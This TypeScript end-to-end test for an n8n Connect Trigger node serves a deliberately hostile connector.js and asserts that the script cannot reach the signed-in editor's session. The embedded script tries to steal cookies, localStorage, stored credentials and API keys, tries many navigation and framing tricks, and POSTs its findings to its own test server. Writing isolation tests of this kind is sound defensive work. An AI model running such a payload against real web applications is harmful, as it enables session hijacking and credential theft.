/**
 * A hostile Connect script against a real n8n, in Chromium, with the owner signed in to the editor in
 * the same browser profile: the Dapi Connect Trigger's Connect Script URL points at a connector.js of
 * this test's own (loopback, which the trigger allows for the simulator). The script tries every
 * route to n8n it can think of and reports what it got to its own server. docs/connect-isolation.md
 * lists the routes; docs/connection-life.md's risk section points here.
 *
 *  - webhooks on a host name of their own (WEBHOOK_URL localhost, editor 127.0.0.1): the widget runs,
 *    and every attempt fails; the owner is still signed in and no API key or secret left n8n;
 *  - the default single host: the Connect link serves a setup page and the script is never loaded.
 *
 * On n8n 1.x (project e2e-n8n1) the trigger cannot tell the editor's host from the webhook host and
 * never loads the script (docs/connect-isolation.md, n8n 1.x).
 */
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Browser, Page } from 'playwright-core';

import { launchBrowser, signIn } from './browser';
import { connectTriggerNode } from './connectTrigger';
import { N8N_LINE } from './n8n';
import { N8nServer } from './server';

jest.setTimeout(300_000);

const APP_SECRET = 'isolation-e2e-app-secret-d41d8cd98f00';
const APP_KEY = 'isolation-e2e-app-key';

/** What the hostile script tried, and what each attempt gave it. */
type Report = Record<string, string>;

/**
 * The hostile connector.js: a working Dapi stand-in (so the page proceeds) that first tries to read
 * or act in n8n by every route, then reports. `E` is the editor, `K` the webhook host.
 */
const hostileScript = (hostileUrl: string, editor: string) => `(function () {
	var E = ${JSON.stringify(editor)};
	var K = location.origin;
	var out = {};
	function tryIt(name, f) { try { out[name] = String(f()); } catch (e) { out[name] = 'error ' + e.name; } }
	function later(name, p) {
		return Promise.resolve().then(p).then(function (v) { out[name] = String(v); }, function (e) { out[name] = 'error ' + (e && e.name); });
	}
	tryIt('origin', function () { return location.origin; });
	tryIt('localStorage', function () { return JSON.stringify(Object.assign({}, localStorage)); });
	tryIt('browserId', function () { return localStorage.getItem('n8n-browserId'); });
	tryIt('cookie', function () { return document.cookie; });
	tryIt('openEditorRest', function () { return window.open(E + '/rest/login'); });
	tryIt('openHealthz', function () { return window.open(E + '/healthz'); });
	tryIt('openBlank', function () { return window.open(''); });
	tryIt('openBlob', function () { return window.open(URL.createObjectURL(new Blob(['<p>x</p>'], { type: 'text/html' }))); });
	tryIt('openerDocument', function () { return window.opener.document.title; });
	tryIt('openerNavigate', function () { window.opener.location = E + '/rest/login'; return 'no error'; });
	tryIt('documentDomain', function () { document.domain = '127.0.0.1'; return document.domain; });
	tryIt('broadcast', function () { var c = new BroadcastChannel('n8n'); c.postMessage({ hostile: true }); return 'posted'; });
	tryIt('postMessageOpener', function () { window.opener.postMessage({ source: 'n8n-dapi-connect', ok: true }, '*'); return 'posted'; });
	function framed(name, setup) {
		return new Promise(function (resolve) {
			var f = document.createElement('iframe');
			setup(f);
			document.documentElement.appendChild(f);
			setTimeout(function () {
				try { out[name] = 'read ' + f.contentDocument.body.innerText.slice(0, 80); } catch (e) { out[name] = 'error ' + e.name; }
				resolve();
			}, 1500);
		});
	}
	var fetches = [
		['fetchEditorLogin', E + '/rest/login', 'GET'],
		['fetchEditorCredentials', E + '/rest/credentials?includeData=true', 'GET'],
		['fetchEditorApiKey', E + '/rest/api-keys', 'POST'],
		['fetchCredentialTest', E + '/rest/credentials/test', 'POST'],
		['fetchWebhookHostLogin', K + '/rest/login', 'GET'],
		['fetchHealthz', E + '/healthz', 'GET'],
	].map(function (f) {
		return later(f[0], function () {
			return fetch(f[1], { method: f[2], credentials: 'include', headers: { 'content-type': 'text/plain' }, body: f[2] === 'POST' ? '{}' : undefined })
				.then(function (r) { return r.text().then(function (t) { return 'answered ' + r.status + ' ' + t.slice(0, 80); }); });
		});
	});
	var blankFrame = later('aboutBlankFrameFetch', function () {
		var f = document.createElement('iframe');
		document.documentElement.appendChild(f);
		return f.contentWindow.fetch(E + '/rest/login', { credentials: 'include' }).then(function (r) { return 'answered ' + r.status; });
	});
	function send(path) {
		return fetch(${JSON.stringify(hostileUrl)} + path, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(out) });
	}
	// Navigations of this window to authenticated n8n URLs (n8n clears a session cookie it gets there).
	var navigations = {
		href: function (u) { location.href = u; },
		assign: function (u) { location.assign(u); },
		replace: function (u) { location.replace(u); },
		topLocation: function (u) { top.location = u; },
		openSelf: function (u) { window.open(u, '_self'); },
		anchor: function (u) { var a = document.createElement('a'); a.href = u; document.body.appendChild(a); a.click(); },
		anchorTop: function (u) { var a = document.createElement('a'); a.href = u; a.target = '_top'; document.body.appendChild(a); a.click(); },
		form: function (u) { var f = document.createElement('form'); f.method = 'POST'; f.action = u; document.body.appendChild(f); f.submit(); },
		meta: function (u) { var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u; document.head.appendChild(m); },
		navigationApi: function (u) { navigation.navigate(u); },
		sameOriginFrame: function (u) { var f = document.createElement('iframe'); document.body.appendChild(f); f.contentWindow.eval('top.location.href = ' + JSON.stringify(u)); },
		replacedPreventDefault: function (u) { Event.prototype.preventDefault = function () {}; location.href = u; },
		stoppedListeners: function (u) { navigation.addEventListener('navigate', function (e) { e.stopImmediatePropagation(); }, { capture: true }); location.href = u; },
		documentWrite: function (u) { document.open(); document.write('<script>location.href = ' + JSON.stringify(u) + '<' + '/script>'); document.close(); },
	};
	Promise.all(fetches.concat([
		blankFrame,
		later('serviceWorker', function () { return navigator.serviceWorker ? navigator.serviceWorker.register('/sw.js').then(function () { return 'registered'; }) : 'no API'; }),
		framed('frameEditorRest', function (f) { f.src = E + '/rest/login'; }),
		framed('frameEditor', function (f) { f.src = E + '/home/workflows'; }),
		framed('frameBlob', function (f) { f.src = URL.createObjectURL(new Blob(['<p>blob</p>'], { type: 'text/html' })); }),
	])).then(function () {
		return send('/report');
	}).then(function () {
		Object.keys(navigations).forEach(function (name) {
			tryIt('navigate-' + name, function () { navigations[name](E + '/rest/login?' + name); return 'tried'; });
		});
		setTimeout(function () {
			out.locationAfterNavigations = location.href;
			send('/navigated');
		}, 1500);
	});
	window.Dapi = {
		environments: { sandbox: 'sandbox', production: 'production' },
		create: function () { return { open: function () {} }; },
	};
})();`;

interface Hostile {
	url: string;
	/** Every request it got: method, path, body. */
	requests: Array<{ method: string; path: string; body: string }>;
	report: Promise<Report>;
	/** The second report, after its navigations: where its window still is. */
	navigated: Promise<Report>;
	close(): Promise<void>;
}

async function startHostile(editorUrl: string): Promise<Hostile> {
	const requests: Hostile['requests'] = [];
	let deliver: (report: Report) => void = () => undefined;
	let deliverNavigated: (report: Report) => void = () => undefined;
	const report = new Promise<Report>((resolve) => (deliver = resolve));
	const navigated = new Promise<Report>((resolve) => (deliverNavigated = resolve));
	const server = http.createServer((req, res) => {
		let body = '';
		req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
		req.on('end', () => {
			requests.push({ method: req.method ?? '', path: req.url ?? '', body });
			res.setHeader('access-control-allow-origin', '*');
			if (req.url === '/connector.js') {
				res.setHeader('content-type', 'application/javascript');
				res.end(hostileScript(url, editorUrl));
			} else if (req.url === '/report' && req.method === 'POST') {
				deliver(JSON.parse(body) as Report);
				res.end('{}');
			} else if (req.url === '/navigated' && req.method === 'POST') {
				deliverNavigated(JSON.parse(body) as Report);
				res.end('{}');
			} else {
				res.end('');
			}
		});
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
	return {
		url,
		requests,
		report,
		navigated,
		close: async () => await new Promise<void>((resolve) => server.close(() => resolve())),
	};
}

/** A workflow with a Connect Trigger whose script is the hostile one, published; its Connect link. */
async function hostileConnectWorkflow(server: N8nServer, hostile: Hostile): Promise<string> {
	const credential = await server.createCredential({
		name: 'Dapi (isolation test)',
		type: 'dapiApi',
		data: { appSecret: APP_SECRET, appKey: APP_KEY, baseUrl: `${hostile.url}/v2` },
	});
	const webhookId = randomUUID();
	const workflow = await server.createWorkflow({
		name: 'e2e: Connect Trigger with a hostile script',
		nodes: [
			connectTriggerNode(
				webhookId,
				{ output: 'plain', options: { connectScriptUrl: `${hostile.url}/connector.js` } },
				{ id: credential.id, name: credential.name },
			),
		],
		connections: {},
	});
	await server.activateWorkflow(workflow.id);
	return `${server.webhookUrl}/webhook/${webhookId}/connect`;
}

/** Whether the editor page's session still works: its own REST call with its browser id. */
async function signedIn(editor: Page): Promise<string> {
	return await editor.evaluate(`fetch('/rest/login', { headers: { 'browser-id': localStorage.getItem('n8n-browserId') } })
		.then((r) => r.json()).then((j) => (j.data && j.data.email) || 'signed out')`);
}

/** How many API keys n8n holds (2.x answers {counts, items}, 1.x a list). */
async function apiKeyCount(server: N8nServer): Promise<number> {
	const keys = await server.rest<unknown[] | { counts: { all: number } }>('GET', '/api-keys');
	return Array.isArray(keys) ? keys.length : keys.counts.all;
}

/** `promise`, or a failure that says what was seen when it has not settled in `ms`. */
async function within<T>(promise: Promise<T>, ms: number, seen: () => Promise<string>): Promise<T> {
	let timer: NodeJS.Timeout | undefined;
	const late = new Promise<never>((_resolve, reject) => {
		timer = setTimeout(() => void seen().then((text) => reject(new Error(text)), reject), ms);
	});
	try {
		return await Promise.race([promise, late]);
	} finally {
		clearTimeout(timer);
	}
}

/** Waits until the registered production webhook answers something else than 404. */
async function published(url: string): Promise<Response> {
	for (let attempt = 0; ; attempt++) {
		const res = await fetch(`${url}?ref=warm-up`);
		if (res.status !== 404 || attempt > 100) return res;
		await new Promise((resolve) => setImmediate(resolve));
		await new Promise((resolve) => setTimeout(resolve, 200));
	}
}

describe('a hostile Connect script, webhooks on a host name of their own', () => {
	let server: N8nServer;
	let browser: Browser;
	let hostile: Hostile;

	beforeAll(async () => {
		[server, browser] = await Promise.all([N8nServer.start({ webhookHost: 'localhost' }), launchBrowser()]);
		hostile = await startHostile(server.url);
	});

	afterAll(async () => {
		await browser?.close();
		await server?.stop();
		await hostile?.close();
	});

	test('reads nothing of n8n and acts as nobody, by any route; the owner stays signed in', async () => {
		const connectUrl = await hostileConnectWorkflow(server, hostile);
		const connectPage = await published(connectUrl);
		if (N8N_LINE === '1') {
			// n8n 1.x gives nodes the webhook address as the editor's (additionalData.instanceBaseUrl), so the
			// trigger cannot tell the two hosts apart: it serves the setup page and the script never runs.
			expect(connectPage.status).toBe(500);
			expect(await connectPage.text()).toContain('n8n 1.x');
			expect(hostile.requests).toEqual([]);
			return;
		}
		expect(connectPage.status).toBe(200);
		const keysBefore = await apiKeyCount(server);

		const context = await browser.newContext();
		try {
			const editor = await context.newPage();
			await signIn(editor, server.url, server.owner);
			expect(await signedIn(editor)).toBe(server.owner.email);
			// What the editor's origin hears on a BroadcastChannel while the script runs.
			await editor.evaluate(`(() => {
				window.heard = [];
				new BroadcastChannel('n8n').onmessage = (event) => window.heard.push(event.data);
			})()`);

			const page = await context.newPage();
			await page.goto(`${connectUrl}?ref=victim`);
			const popupOpened = page.waitForEvent('popup');
			await page.locator('#connect').click();
			const popup = await popupOpened;
			const report = await within(hostile.report, 60_000, async () => {
				await popup.screenshot({ path: 'test-output/connect/isolation-no-report.png' });
				return `no report; the hostile host got ${JSON.stringify(hostile.requests.map((r) => r.path))}, the window is at ${popup.url()}: ${await popup.content()}`;
			});

			// The script ran in the widget window, on the webhook host.
			expect(report.origin).toBe(server.webhookUrl);
			expect(popup.url().startsWith(`${server.webhookUrl}/webhook/`)).toBe(true);
			// Storage and cookies: the webhook host holds nothing of the editor's session.
			expect(report.localStorage).toBe('{}');
			expect(report.browserId).toBe('null');
			expect(report.cookie).toBe('');
			// Windows: none opens; the Connect page that opened it can be neither read nor moved.
			for (const name of ['openEditorRest', 'openHealthz', 'openBlank', 'openBlob'])
				expect([name, report[name]]).toEqual([name, 'null']);
			expect(report.openerDocument).toBe('error SecurityError');
			expect(report.openerNavigate).toMatch(/^error /);
			expect(report.documentDomain).toMatch(/^error |^localhost$/);
			// Requests: the window's policy lets none reach n8n (each is refused before it is sent).
			for (const name of [
				'fetchEditorLogin',
				'fetchEditorCredentials',
				'fetchEditorApiKey',
				'fetchCredentialTest',
				'fetchWebhookHostLogin',
				'fetchHealthz',
				'aboutBlankFrameFetch',
			]) {
				expect([name, report[name]]).toEqual([name, 'error TypeError']);
			}
			expect(report.serviceWorker).toMatch(/^error /);
			// Frames of n8n and of blob: are refused.
			for (const name of ['frameEditorRest', 'frameEditor', 'frameBlob']) {
				expect([name, report[name]]).toEqual([name, expect.not.stringMatching(/^read .*\S/)]);
			}

			// Its own navigations to authenticated URLs, every way it tried: all cancelled.
			const after = await Promise.race([
				hostile.navigated,
				popup.waitForURL(/\/rest\//, { timeout: 60_000 }).then(() => ({ locationAfterNavigations: popup.url() })),
			]);
			expect(after.locationAfterNavigations).toBe(popup.url());
			expect(popup.url().startsWith(`${server.webhookUrl}/webhook/`)).toBe(true);
			expect(page.url().startsWith(`${server.webhookUrl}/webhook/`)).toBe(true);

			expect(await editor.evaluate('window.heard.length')).toBe(0);
			expect(await signedIn(editor)).toBe(server.owner.email);
		} finally {
			await context.close();
		}
		// Nothing was done in the owner's name and nothing of n8n's reached the hostile host.
		expect(await apiKeyCount(server)).toBe(keysBefore);
		const seen = JSON.stringify(hostile.requests);
		expect(seen).not.toContain(APP_SECRET);
		expect(seen).not.toContain(server.owner.email);
		expect(hostile.requests.map((request) => request.path).sort()).toEqual(['/connector.js', '/navigated', '/report']);
	});
});

describe('a hostile Connect script, the default single host', () => {
	let server: N8nServer;
	let hostile: Hostile;

	beforeAll(async () => {
		server = await N8nServer.start();
		hostile = await startHostile(server.url);
	});

	afterAll(async () => {
		await server?.stop();
		await hostile?.close();
	});

	test('the Connect link serves a setup page, and the script is never loaded', async () => {
		const connectUrl = await hostileConnectWorkflow(server, hostile);
		const page = await published(connectUrl);
		expect(page.status).toBe(500);
		const html = await page.text();
		expect(html).toContain('WEBHOOK_URL');
		expect(html).not.toContain('"state"');
		expect(html).not.toContain(hostile.url);
		expect(hostile.requests).toEqual([]);
	});
});
